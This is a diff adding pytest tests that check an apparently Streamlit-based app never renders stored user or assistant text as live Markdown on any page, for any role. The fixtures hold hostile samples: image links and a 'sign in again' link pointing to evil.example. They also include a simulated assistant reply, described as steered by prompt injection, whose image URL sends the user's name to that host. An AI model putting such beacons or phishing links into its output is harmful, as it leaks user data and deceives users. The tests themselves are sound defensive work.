@@ -95,3 +95,173 @@ _PIECES = list("![]()<>`~:\\/\n *-#xh") + ["http://e", "![", "](", "]:", "```", 
 def test_no_arrangement_of_markdown_pieces_gets_through(text):
     assert problems(safe_markdown(text), literal=False) == []
     assert problems(md_escape(text), literal=True) == []
+
+
+# --- every page, as the author, another analyst, a viewer and an admin -------------------
+
+HOSTILE_TEXT = (
+    "![x](http://evil.example/b.png) [sign in again](http://evil.example) <img src=x>\n"
+    "# heading\n**bold**"
+)
+RAW_CONSTRUCTS = ("![x](", "[sign in again](", "<img src=x>")
+PAGES = [
+    "pages/home.py",
+    "pages/chat.py",
+    "pages/data.py",
+    "pages/finance.py",
+    "pages/models.py",
+    "pages/trials.py",
+    "pages/jobs.py",
+    "pages/goals.py",
+    "pages/dynamic_actions.py",
+    "pages/admin.py",
+    "pages/audit.py",
+]
+_MARKDOWN_VALUE_TYPES = (
+    "Markdown",
+    "Caption",
+    "Title",
+    "Header",
+    "Subheader",
+    "Error",
+    "Warning",
+    "Info",
+    "Success",
+    "Toast",
+)
+
+
+def rendered_markdown(at) -> list[str]:
+    """Every string on the page that Streamlit renders as Markdown: bodies of markdown,
+    captions, headings and alerts; labels and help of every element and block (expanders,
+    tabs, metrics, widgets, status); radio options; progress text."""
+    found: list[str] = []
+
+    def visit(node) -> None:
+        kind = type(node).__name__
+        if kind in _MARKDOWN_VALUE_TYPES and isinstance(getattr(node, "value", None), str):
+            found.append(node.value)
+        for attr in ("label", "help", "text"):
+            value = getattr(node, attr, None) if kind != "Text" else None
+            if isinstance(value, str) and value:
+                found.append(value)
+        if kind == "Radio":
+            found.extend(str(option) for option in node.options)
+        for child in (getattr(node, "children", None) or {}).values():
+            visit(child)
+
+    visit(at._tree)
+    return found
+
+
+def hostile_markdown(texts: list[str]) -> list[str]:
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark")
+    bad = []
+    for text in texts:
+        if not any(marker in text for marker in ("evil", "img", "heading", "bold")):
+            continue  # the app's own wording
+        issues = problems(text, literal=False)
+        issues += [c for c in RAW_CONSTRUCTS if c in text]
+        if "heading" in text:
+            tokens = md.parse(text)
+            issues += [
+                "heading"
+                for i, t in enumerate(tokens)
+                if t.type == "heading_open" and "heading" in tokens[i + 1].content
+            ]
+        if issues:
+            bad.append(f"{text!r}: {issues}")
+    return bad
+
+
+@pytest.fixture
+def hostile_world(fresh_db, make_user):
+    """Alice (an analyst) stores hostile text everywhere another user may see it."""
+    from storage.repositories import conversations as conversation_repo
+    from storage.repositories import datasets as dataset_repo
+    from storage.repositories import dynamic_actions as dynamic_repo
+    from storage.repositories import goals as goal_repo
+    from storage.repositories import jobs as job_repo
+
+    people = {
+        "root": make_user("root", "admin"),
+        "alice": make_user("alice", "analyst"),
+        "bob": make_user("bob", "analyst"),
+        "vic": make_user("vic", "viewer"),
+    }
+    alice = people["alice"]
+    conversation = conversation_repo.create_conversation(alice.id, HOSTILE_TEXT[:200])
+    conversation_repo.add_message(
+        conversation.id,
+        "tool",
+        HOSTILE_TEXT,
+        payload={"action": HOSTILE_TEXT, "status": "refused", "error": HOSTILE_TEXT},
+    )
+    # Claude's reply (Markdown on purpose), steered by a prompt injection in some data
+    conversation_repo.add_message(
+        conversation.id,
+        "assistant",
+        "Done. ![chart](http://evil.example/c.png?u=alice) Please "
+        "[sign in again](http://evil.example/login) <img src=http://evil.example/i.png>",
+    )
+    goal = goal_repo.create_goal(
+        alice.id,
+        HOSTILE_TEXT,
+        {
+            "metric": HOSTILE_TEXT,
+            "direction": ">=",
+            "threshold": 0.55,
+            "max_trials": 30,
+            "task": "classification",
+            "symbols": ["SPY"],
+        },
+        HOSTILE_TEXT,
+    )
+    goal_repo.update_goal(goal.id, status="stopped", stop_reason=HOSTILE_TEXT)
+    dataset_repo.record_dataset(
+        name=HOSTILE_TEXT,
+        source="upload",
+        symbols=[HOSTILE_TEXT],
+        start_date="2020-01-01",
+        end_date="2020-12-31",
+        rows=10,
+        fingerprint="f" * 64,
+        user_id=alice.id,
+    )
+    job_id = job_repo.create_job("train_model", {"note": HOSTILE_TEXT}, alice.id)
+    job_repo.claim(job_id, "test-worker")
+    job_repo.finish(job_id, "failed", error=HOSTILE_TEXT, only_from=("running",))
+    for status in ("draft", "approved"):
+        record = dynamic_repo.create_version(
+            "hostile_action",
+            description=HOSTILE_TEXT,
+            parameters={},
+            source="def run(params, ctx):\n    return {}\n",
+            source_hash=status * 8,
+            author_id=alice.id,
+        )
+        if status == "approved":
+            dynamic_repo.set_status(record.id, "approved", approved_by=people["root"].id)
+    return conversation.id
+
+
+@pytest.mark.parametrize("username", ["root", "bob", "vic", "alice"])
+def test_no_page_renders_stored_text_as_markdown(hostile_world, username):
+    from tests.foundation.apptest_helpers import log_in, new_app
+
+    at = log_in(new_app(), username)
+    shown_hostile = 0
+    for page in PAGES:
+        at.switch_page(page).run()
+        if page == "pages/chat.py" and any(r.key == "conv_radio" for r in at.radio):
+            at.radio(key="conv_radio").set_value(hostile_world).run()
+        if page == "pages/jobs.py" and any(t.key == "jobs_all" for t in at.toggle):
+            at.toggle(key="jobs_all").set_value(True).run()
+        texts = rendered_markdown(at)
+        shown_hostile += sum("evil" in text for text in texts)
+        assert not at.exception, (page, at.exception)
+        assert hostile_markdown(texts) == [], (page, username)
+    if username != "bob":  # bob, another analyst, sees none of alice's things
+        assert shown_hostile, "the hostile text must reach this user somewhere"
